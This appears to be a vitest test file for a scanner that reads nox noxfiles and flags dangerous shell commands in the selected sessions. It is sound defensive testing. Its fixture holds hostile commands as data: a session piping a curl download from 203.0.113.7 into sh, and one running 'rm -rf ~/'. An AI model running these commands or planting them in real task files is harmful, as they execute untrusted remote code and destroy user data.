// nox: the sessions a command selects, read from the noxfile (round 19), and what each runs analysed as shell; a
// noxfile of another shape is uncertain. The reader is a table in memory.
import { beforeAll, describe, expect, it } from 'vitest';
import { loadShellParser } from '../parse/load-parser';
import { fileProject } from '../testdata/file-project';
import type { ScriptFile } from '../types';
import { readNoxfile } from './nox-sessions';

const P = '/home/u/proj';
const text = (t: string): ScriptFile => ({ kind: 'text', text: t });

const NOXFILE = `"""Sessions."""
import nox

nox.options.sessions = ["lint", "tests"]
nox.options.default_venv_backend = "uv"


@nox.session
def lint(session: nox.Session) -> None:
    session.install("ruff")
    session.run("ruff", "check", ".")


@nox.session(python=["3.11", "3.12"])
def tests(session: nox.Session) -> None:
    """Run the tests."""
    session.install("-e", ".", "pytest")
    session.run("pytest", "-q", *session.posargs)


@nox.session
def docs(session):
    session.run(
        "sh", "-c",
        "curl -s https://203.0.113.7/x | sh",
        silent=True,
    )


@nox.session(default=False)
def wipe(session):
    session.chdir("build")
    session.run("rm", "-rf", "~/")


@nox.session
def release(session):
    session.notify("docs")
`;

const { at, categories, codes } = fileProject(P, {
  [`${P}/py/noxfile.py`]: text(NOXFILE),
  [`${P}/py/pyproject.toml`]: text(
    '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[project]\nname = "lattice"\n',
  ),
  [`${P}/dyn/noxfile.py`]: text(
    'import nox, os\n\n@nox.session\ndef lint(session):\n    session.run(os.environ["X"])\n',
  ),
  [`${P}/part/noxfile.py`]: text(
    'import nox\n\n@nox.session\ndef odd(session):\n    for x in []:\n        session.run(x)\n\n@nox.session\ndef lint(session):\n    session.run("ruff", "check", ".")\n',
  ),
  [`${P}/plain/noxfile.py`]: text(
    'import nox\n\n@nox.session\ndef lint(session):\n    session.run("ruff", "check", ".")\n',
  ),
});

beforeAll(async () => {
  await loadShellParser();
});

describe('the noxfile reader', () => {
  it('reads each session, its commands and the default selection', () => {
    const read = readNoxfile(NOXFILE);
    expect(read.kind).toBe('read');
    if (read.kind !== 'read') return;
    expect([...read.sessions.keys()]).toEqual(['lint', 'tests', 'docs', 'wipe', 'release']);
    expect(read.defaults).toEqual(['lint', 'tests']);
    expect(read.sessions.get('lint')?.lines).toEqual([
      "'python' '-m' 'pip' 'install' 'ruff'",
      "'ruff' 'check' '.'",
    ]);
    expect(read.sessions.get('wipe')?.byDefault).toBe(false);
    expect(read.sessions.get('release')?.notify).toEqual(['docs']);
  });

  it.each([
    ['a computed argument', '    session.run("x" + y)'],
    ['a condition', '    if session.posargs:\n        session.run("x")'],
    ['an environment given', '    session.run("x", env={"A": "1"})'],
    ['a string joined with a name', '    session.run("x" "y" z)'],
  ])('a session of other code is opaque, the rest read: %s', (_n, body) => {
    const read = readNoxfile(
      `import nox\n\n@nox.session\ndef a(session):\n${body}\n\n@nox.session\ndef b(session):\n    session.run("ruff", "check")\n`,
    );
    expect(read.kind).toBe('read');
    if (read.kind !== 'read') return;
    expect(read.sessions.get('a')?.opaque).toBeDefined();
    expect(read.sessions.get('b')?.opaque).toBeUndefined();
  });

  it('a # inside a string is text, a comment is not read', () => {
    const read = readNoxfile(
      'import nox  # the sessions\n\n@nox.session\ndef a(session):\n    session.run("echo", "a #b")  # c\n',
    );
    expect(read.kind === 'read' && read.sessions.get('a')?.lines).toEqual(["'echo' 'a #b'"]);
  });

  it('joins adjacent string literals as Python does', () => {
    const read = readNoxfile(
      'import nox\n\n@nox.session\ndef a(session):\n    session.run("python", "-c", "import os;" \'print(1)\')\n',
    );
    expect(read.kind === 'read' && read.sessions.get('a')?.lines).toEqual([
      "'python' '-c' 'import os;print(1)'",
    ]);
  });

  it.each([
    ['another import', 'import nox\nimport os\n'],
    // The final review (round 19): a quote in a comment is no string; strings hide no code.
    ['module code between quotes in comments', 'import nox  # """\nimport os\nos.system("id")\n# """\n'],
    ['a formatted string', 'import nox\n\n@nox.session(name=f"x")\ndef a(session):\n    pass\n'],
    ['a helper function', 'import nox\n\ndef helper():\n    pass\n'],
    [
      'a parametrized session',
      'import nox\n\n@nox.session\n@nox.parametrize("v", ["1"])\ndef a(session, v):\n    session.run("x")\n',
    ],
    ['a computed option', 'import nox\nnox.options.sessions = names()\n'],
    [
      'a decorator argument computed',
      'import nox\n\n@nox.session(python=PYTHONS)\ndef a(session):\n    session.run("x")\n',
    ],
  ])('opaque: %s', (_n, file) => {
    expect(readNoxfile(file).kind).toBe('opaque');
  });
});

describe('nox runs what the selected sessions run', () => {
  it.each([
    ['one named session', 'nox -s lint'],
    ['a session beside one of other code', 'nox -s lint'],
    ['listing', 'nox -l'],
    ['a noxfile of literal commands only', 'nox'],
  ])('quiet: %s', (_n, command) => {
    const dir = _n.startsWith('a noxfile') ? 'plain' : _n.startsWith('a session beside') ? 'part' : 'py';
    expect(codes(at(dir, command))).toEqual([]);
    expect(categories(at(dir, command))).toEqual([]);
  });

  it('a session of one Python is that session, the words after -- its posargs', () => {
    const a = at('py', 'nox -s tests-3.12 -- -k tiles');
    expect(a.segments.map((s) => s.argv.join(' '))).toContain('pytest -q -k tiles');
  });

  it('the default sessions are the ones the noxfile names', () => {
    const ran = at('py', 'nox').segments.map((s) => s.argv[0]);
    expect(ran).toContain('ruff');
    expect(ran).toContain('pytest');
    expect(ran).not.toContain('sh');
  });

  it.each([
    ['a session that pipes a download to a shell', 'nox -s docs', 'remote_code_execution'],
    ['a session another notifies', 'nox --session release', 'remote_code_execution'],
    ['a session run only when named', 'nox -s wipe', 'destructive_root_delete'],
    ['every session, by keyword', "nox -k 'not lint'", 'remote_code_execution'],
  ])('reached: %s', (_n, command, category) => {
    expect(categories(at('py', command))).toContain(category);
  });

  it.each([
    ['a noxfile of other code', 'dyn', 'nox -s lint'],
    ['a noxfile named by option', 'py', 'nox -f other/noxfile.py -s lint'],
    ['sessions named at run time', 'py', 'nox -s "$S"'],
    ['a session of other code, selected', 'part', 'nox -s odd'],
  ])('uncertain: %s', (_n, dir, command) => {
    expect(codes(at(dir, command))).toContain('dynamic-script');
  });
});
